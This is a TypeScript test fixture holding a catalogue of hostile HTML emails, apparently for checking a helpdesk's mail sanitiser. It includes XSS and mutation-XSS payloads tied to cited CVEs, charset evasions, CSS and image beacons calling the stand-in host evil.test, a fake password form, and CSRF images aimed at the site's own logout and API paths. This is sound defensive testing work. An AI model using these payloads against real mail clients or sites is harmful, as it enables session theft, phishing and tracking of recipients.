/** A mail that tries to get out of its frame, to run something or to call home. */
export type HostileMail = {
  /** Case of the catalogue and what is tried. */
  name: string
  /** Where it has been seen. */
  source: string
  html: string
  headers?: Record<string, string>
  /** What its subject ends with. */
  subject?: string
  /** The body's bytes, where they are not UTF-8 text. */
  bytes?: Buffer
}

/** Runs in the page or the frame where a way around is found; the test looks for its traces. */
const run = `(top||parent||self).hacked=1;fetch('//evil.test/ran')`

/** Where a request would go. */
const home = (what: string): string => `http://evil.test/${what}`

const script: HostileMail[] = [
  { name: 'D01 script', source: 'OWASP XSS filter evasion', html: `<script>${run}</script><p>words</p>` },
  {
    name: 'D01 script in pieces',
    source: 'OWASP XSS filter evasion, non-recursive filters',
    html: `<scr<script>ipt>${run}</scr</script>ipt><<script>${run}//<</script>`,
  },
  {
    name: 'D01 script with NUL in its name',
    source: 'Roundcube CVE-2020-35730 family',
    html: `<scr\0ipt>${run}</scr\0ipt><img src=x on\0error="${run}">`,
  },
  {
    name: 'D01 image that fails',
    source: 'PortSwigger XSS cheat sheet',
    html: `<img src=x onerror="${run}">`,
  },
  {
    name: 'D01 handlers that need nobody',
    source: 'PortSwigger XSS cheat sheet',
    html: `<details open ontoggle="${run}">a</details><input autofocus onfocus="${run}"><video><source onerror="${run}"></video>
      <body onload="${run}"><marquee onstart="${run}">b</marquee><svg onload="${run}"><style onload="${run}"></style>
      <div style="animation-name:x" onanimationstart="${run}">c</div><p oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">d</p>`,
  },
  {
    name: 'D01 attribute without a blank before it',
    source: 'OWASP XSS filter evasion',
    html: `<img/src=x/onerror="${run}"><img src="x"onerror="${run}"><img """><script>${run}</script>">`,
  },
  {
    name: 'D01 address that is a script',
    source: 'OWASP XSS filter evasion',
    html: `<a id=go href="java&#x09;script:${run}">a</a><a href=" &#14; javascript:${run}">b</a><a href="JaVaScRiPt&colon;${run}">c</a>
      <a href="vbscript:x">d</a><a href="data:text/html,<script>${run}</script>">e</a><a href="&#1;javascript:${run}">f</a>
      <form action="javascript:${run}"><button formaction="javascript:${run}">g</button></form><iframe src="javascript:${run}"></iframe>`,
  },
  {
    name: 'D01 SVG animation of an address',
    source: 'Roundcube CVE-2024-37383',
    html: `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y=20>x</text></a>
      <animate attributeName="href " values="javascript:${run}"/><set attributeName="onload" to="${run}"/></svg>`,
  },
  {
    name: 'D01 SVG use of another document',
    source: 'Roundcube CVE-2023-5631',
    html: `<svg id="x" xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,${Buffer.from(
      `<svg id="x" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="1" onerror="${run}"/></svg>`,
    ).toString('base64')}#x"/></svg>`,
  },
  {
    name: 'D01 foreignObject',
    source: 'DOMPurify demos/fixtures',
    html: `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe><body onload="${run}"></foreignObject></svg>`,
  },
  {
    name: 'D01 a document in an attribute',
    source: 'OWASP XSS filter evasion',
    html: `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe><object data="data:text/html;base64,${Buffer.from(
      `<script>${run}</script>`,
    ).toString('base64')}"></object><embed src="data:image/svg+xml,<svg onload='${run}'/>">`,
  },
  {
    name: 'D08 mutation by MathML and style',
    source: 'DOMPurify CVE-2020-26870',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  },
  {
    name: 'D08 mutation by a table in MathML',
    source: 'Bentkowski 2020, DOMPurify < 2.0.17',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run.replaceAll("'", '&quot;')}&gt;">`,
  },
  {
    name: 'D08 mutation by noscript',
    source: 'Google Search XSS 2019 (Kinugawa)',
    html: `<noscript><p title="</noscript><img src=x onerror=${run.replaceAll("'", '&quot;')}>">`,
  },
  {
    name: 'D08 mutation by text-only elements',
    source: 'DOMPurify and sanitize-html advisories (GHSA-rjqq-98f6-6j3r)',
    html: ['xmp', 'noembed', 'noframes', 'textarea', 'title', 'plaintext', 'template', 'option', 'iframe']
      .map(
        (tag) =>
          `<${tag}></${tag}><${tag}><img src=x onerror="${run}"></${tag}><${tag}><p id="</${tag}><img src=x onerror='${run}'>">`,
      )
      .join(''),
  },
  {
    name: 'D08 mutation by deep nesting',
    source: 'DOMPurify CVE-2024-47875',
    html: `${'<div>'.repeat(600)}<table><caption>${'<svg><title>'.repeat(60)}<style><a id="</style><img src=x onerror='${run}'>"></a>${'</div>'.repeat(600)}`,
  },
  {
    name: 'D08 mutation by an SVG desc and p',
    source: 'Bentkowski 2019, DOMPurify < 2.0.1',
    html: `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`,
  },
  {
    name: 'D08 mutation by CDATA, comments and instructions',
    source: 'DOMPurify CVE-2024-45801, CVE-2024-48910 families',
    html: `<svg><![CDATA[><img src=x onerror="${run}">]]></svg><!--><img src=x onerror="${run}">--><!--!><img src=x onerror="${run}">-->
      <?xml-stylesheet ><img src=x onerror="${run}"> ?><!--[if gte IE 4]><script>${run}</script><![endif]--><!DOCTYPE x [<!ENTITY y "<img src=x onerror='${run}'>">]>&y;`,
  },
  {
    name: 'D08 attributes that are opened and never closed',
    source: 'sanitize-html and Mutation XSS corpora',
    html: `<p title='"><img src=x onerror="${run}">'>a</p><img alt="x" title="\`><img src=x onerror=${run}>"><a href='x"onmouseover="${run}"'>b</a><p title="<img src=x onerror='${run}'>`,
  },
  {
    name: 'D01 UTF-7',
    source: 'Squirrelmail/IE UTF-7 attacks',
    html: '+ADw-script+AD4-top.hacked=1+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-top.hacked+AD0-1+AD4-',
    headers: { 'Content-Type': 'text/html; charset=utf-7' },
  },
  {
    name: 'D01 escapes of ISO-2022-JP',
    source: 'Sonar 2024, charset differentials',
    html: '',
    headers: { 'Content-Type': 'text/html; charset=iso-2022-jp' },
    bytes: Buffer.from(
      `<img alt="\x1b$B"><p>x</p><img title="\x1b(B&quot;><img src=x onerror=${run}>\x1b(J<img src='a\x1b(Jb' onerror='${run}'>`,
      'latin1',
    ),
  },
  {
    name: 'D01 bytes that end nothing in UTF-8',
    source: 'PortSwigger, malformed UTF-8',
    html: '',
    headers: { 'Content-Type': 'text/html; charset=utf-8' },
    bytes: Buffer.concat([
      Buffer.from('<p title="'),
      Buffer.from([0xc0]),
      Buffer.from(`"><img src=x onerror="${run}"> `),
      Buffer.from([0xe0, 0x80, 0xbc]),
      Buffer.from(`script>${run}`),
    ]),
  },
  {
    name: 'D03 script in the subject and the name',
    source: 'FreeScout advisories of 2025 and 2026',
    html: '<p>words</p>',
    subject: '<img src=x onerror=top.hacked=1>',
    headers: {
      From: '"<img src=x onerror=top.hacked=1>" <img@hostile.test>',
      'X-Note': `<script>${run}</script>`,
      'Message-ID': `<${Date.now()}"><img/src=x/onerror=top.hacked=1>@hostile.test>`,
    },
  },
]

const steering: HostileMail[] = [
  {
    name: 'D04 a sheet over the whole page',
    source: 'Roundcube position:fixed',
    html: `<div style="position:fixed;inset:0;z-index:2147483647;background:#f00;width:9999px;height:9999px">Your session has ended</div>
      <div style="position:absolute;top:-5000px;left:-5000px;margin:-9999px">x</div><dialog open style="position:fixed">y</dialog>`,
  },
  {
    name: 'D04 a form that asks for the password',
    source: 'FreeScout GHSA-985r-6qfc-hg8m',
    html: `<form action="${home('form')}" method=post target=_top><input name=password type=password><button id=go>Sign in</button></form>
      <input form=x type=image src="${home('input')}"><isindex action="${home('isindex')}">`,
  },
  {
    name: 'D04 another base, another page',
    source: 'OWASP XSS filter evasion',
    html: `<base href="${home('')}"><meta http-equiv="refresh" content="0;url=${home('refresh')}"><meta http-equiv="Content-Security-Policy" content="default-src *">
      <meta http-equiv="set-cookie" content="a=b"><a href="x" target="_top">up</a><a href="#" target="_parent">up</a>`,
  },
  {
    name: 'D04 names that stand for others',
    source: 'DOM clobbering (DOMPurify, PortSwigger)',
    html: `<form id=body><input name=attributes><input name=parentNode></form><img name=getElementById><a id=defaultView></a><a id=__proto__ name=constructor></a>
      <iframe name=top></iframe><p is="x-evil" class="hd-row" id="app" slot=x part=y popover popovertarget=z contenteditable autofocus tabindex=1 accesskey=r>z</p>`,
  },
  {
    name: 'D04 a page as tall as a mountain',
    source: 'height of frames (Gmail, Roundcube reports)',
    html: `<div style="height:99999999px;width:99999999px;font-size:9999em;line-height:1e9">x</div><table height=99999999><tr><td>y</table>`,
  },
]

const styles: HostileMail[] = [
  {
    name: 'D05 style sheets',
    source: 'Roundcube, Gmail CSS exfiltration',
    html: `<style>@import '${home('import')}';@font-face{font-family:x;src:url(${home('font')})}*{font-family:x}
      body{background:url(${home('sheet')})}a[href^="h"]{background:url(${home('attr')})}:root{--x:url(${home('var')})}</style>
      <link rel=stylesheet href="${home('link')}"><style media=all>p{list-style:url(${home('list')})}</style>`,
  },
  {
    name: 'D05 addresses in style attributes',
    source: 'OWASP, Roundcube CVE-2024-42010',
    html: [
      `background:url(${home('a')})`,
      `background-image:u\\72l(${home('b')})`,
      `background:url&#40;${home('c')})`,
      `background:/**/url/**/(${home('d')})`,
      `background:image-set('${home('e')}' 1x)`,
      `background:-webkit-image-set(url(${home('f')}) 1x)`,
      `list-style-image:url('${home('g')}')`,
      `cursor:url(${home('h')}),auto`,
      `content:url(${home('i')})`,
      `--x:url(${home('j')});background:var(--x)`,
      `border-image:url(${home('k')}) 30`,
      `mask:url(${home('l')})`,
      `filter:url(${home('m')}#x)`,
      `shape-outside:url(${home('n')})`,
      `background:cross-fade(url(${home('o')}),url(x),50%)`,
      `width:expression(${run})`,
      `behavior:url(${home('p')})`,
      `-moz-binding:url(${home('q')})`,
      `color:red;}</style><img src=${home('r')}>`,
      `background:URL(\\000068ttp://evil.test/s)`,
    ]
      .map((style) => `<p style="${style}">x</p>`)
      .join(''),
  },
]

const remote: HostileMail[] = [
  {
    name: 'D06 pictures that tell that they were seen',
    source: 'email-privacy-tester.com',
    html: `<img src="${home('img')}"><img srcset="${home('srcset')} 1x" src="${home('src')}"><picture><source srcset="${home('picture')}"><img></picture>
      <img src="//evil.test/relative"><img src=" http&#58;//evil.test/entity"><img src="hTTp:\\\\evil.test\\back"><img lowsrc="${home('lowsrc')}" dynsrc="${home('dynsrc')}" longdesc="${home('longdesc')}">
      <table background="${home('table')}"><td background="${home('td')}">x</table><body background="${home('body')}"><img src="ftp://evil.test/ftp"><image src="${home('image')}">`,
  },
  {
    name: 'D06 other things that are fetched',
    source: 'email-privacy-tester.com',
    html: `<video poster="${home('poster')}" src="${home('video')}" autoplay></video><audio src="${home('audio')}" autoplay></audio><track src="${home('track')}">
      <object data="${home('object')}"></object><embed src="${home('embed')}"><iframe src="${home('iframe')}"></iframe><frameset><frame src="${home('frame')}"></frameset>
      <applet code="${home('applet')}"></applet><bgsound src="${home('sound')}"><script src="${home('script')}"></script><input type=image src="${home('button')}">
      <a ping="${home('ping')}" href="#">x</a><blockquote cite="${home('cite')}">y</blockquote><html manifest="${home('manifest')}">`,
  },
  {
    name: 'D06 what the browser prepares',
    source: 'email-privacy-tester.com (DNS, prefetch)',
    html: [
      'prefetch',
      'preload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'modulepreload',
      'icon',
      'manifest',
      'import',
    ]
      .map((rel) => `<link rel=${rel} href="${home(rel)}" as=image>`)
      .join('')
      .concat(`<script type=speculationrules>{"prefetch":[{"urls":["${home('speculation')}"]}]}</script>`),
  },
  {
    name: 'D06 pictures of an SVG',
    source: 'Roundcube remote content bypasses (feImage, 2026)',
    html: `<svg><image href="${home('svgimage')}"/><image xlink:href="${home('xlink')}"/><filter id=f><feImage href="${home('feimage')}"/></filter>
      <rect filter="url(#f)" fill="url(${home('fill')})" width=9 height=9 /><style>@import '${home('svgstyle')}'</style><script href="${home('svgscript')}"/></svg>`,
  },
  {
    name: 'D12 Content-IDs that lead elsewhere',
    source: 'Roundcube and Zammad inline image fixes',
    html: `<img src="cid:../../../../evil.test/x"><img src="cid:x&quot; onerror=&quot;${run}"><img src="cid:%22onerror%3D%22${encodeURIComponent(run)}">
      <img src="cid:http://evil.test/cid"><img src="/api/users/logout"><img src="mid:x/cid:y"><a href="cid:x">z</a>`,
  },
  {
    name: 'D13 data that is no picture',
    source: 'OWASP, SVG in data:',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${home('datasvg')}'/></svg>">
      <img src="data:text/html,<script>${run}</script>"><img src="data:image/png;base64,AAAA" onerror="${run}"><img src="data:;base64,PHN2Zy8+"><a href="data:image/png;base64,AA">x</a><img src="blob:http://localhost/x">`,
  },
  {
    name: 'D15 links that say something else',
    source: 'Zammad, Payload #11907',
    html: `<a href="http://evil.test/a">https://www.bank.com/login</a> <a href="http://www.bank.com@evil.test/">bank</a>
      <a href="http://xn--80ak6aa92e.com/">apple</a> <a href="http://bank.com.${'x'.repeat(120)}.evil.test/">bank.com</a> <a href="/admin/logout">sign out</a>`,
  },
]

/** Pictures that are the site's own addresses, whose cookies the agent's browser would send along. */
export const ownSiteMail = (site: string): HostileMail => {
  const { host, port } = new URL(site)
  const own = (path: string) => `${path}${path.includes('?') ? '&' : '?'}from=mail`
  const paths = [
    `${site}${own('/api/users/logout')}`,
    `//${own(`${host}/admin/logout`)}`,
    `${site}${own('/api/helpdesk/attachments/../../users/me')}`,
    `${site}${own('/api/helpdesk/attachments/%2e%2e/inbox/overview')}`,
    `${site}${own('/api/helpdesk/attachments')}`,
    `HTTP:\\\\${own(`${host}/api/tickets`)}`,
    `http://user@${own(`${host}/api/mailboxes?limit=1&amp;depth=0`)}`,
    `http://LOCALHOST:${own(`${port}/api/messages`)}`,
    `http://127.0.0.1:${own(`${port}/api/contacts`)}`,
  ]
  return {
    name: 'D06 addresses of the site itself',
    source: 'CSRF by image (Zammad, osTicket advisories)',
    html: `<p>words</p>${paths.map((path) => `<img src="${path}">`).join('')}`,
  }
}

/** One for each distinct way. */
export const hostileMails: HostileMail[] = [...script, ...steering, ...styles, ...remote]
